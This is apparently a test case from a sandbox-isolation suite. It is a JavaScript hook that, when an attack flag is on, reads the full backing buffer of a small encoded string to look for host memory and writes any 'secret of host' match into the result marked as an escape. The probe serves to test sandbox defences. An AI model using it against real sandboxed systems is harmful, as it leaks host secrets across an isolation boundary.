// Looks behind the bytes of the text encoder for memory that it shares with the host.
// Class: endowments
// Win: the id holds the process id out of a secret of the host.
// Control: vm
function postSubmit(options) {
  if (!options.settings.flow.attack) return options.responseData;
  const bytes = typeof Buffer === 'function' ? Buffer.from('x') : new TextEncoder().encode('x');
  const text = new TextDecoder().decode(new Uint8Array(bytes.buffer));
  const secret = /secret of host \d+/.exec(text);
  if (secret !== null) options.responseData[0].id = 'ESCAPED:' + secret[0];
  return options.responseData;
}
